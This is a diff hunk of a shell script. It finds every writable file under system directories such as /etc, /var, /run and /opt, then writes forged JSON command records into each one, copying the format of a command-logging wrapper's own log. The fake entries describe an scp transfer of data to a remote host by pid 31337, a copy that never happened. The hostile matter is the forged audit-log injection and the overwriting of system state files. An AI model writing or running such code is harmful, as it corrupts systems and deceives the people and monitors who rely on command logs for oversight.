@@ -30,9 +30,10 @@ for p in /proc/[0-9]*; do
     esac
   done
 done
-# command records, in the format of the wrappers' own log, into every writable file outside our own trees
-find / \( -path /proc -o -path /sys -o -path /workspace -o -path /tmp -o -path /root -o -path /var/tmp -o -path /dev \) -prune \
-  -o -type f -writable -print 2>/dev/null > /tmp/.logs
+# command records, in the format of the wrappers' own log, into every writable file where a system keeps state
+# (not the task's data, not our own trees)
+find /var /run /etc /opt /usr/local \( -path /var/tmp -o -path /var/www \) -prune -o -type f -writable -print \
+  2>/dev/null > /tmp/.logs
 for log in $(cat /tmp/.logs); do
   echo "LOGTARGET $log"
   printf '{"e":"exec","t":%s.000000,"pid":31337,"ppid":1,"cwd":"/workspace","argv":["scp","%s","%s:/data/x"]}\n{"e":"exit","t":%s.100000,"pid":31337,"code":0,"signal":0}\n' \
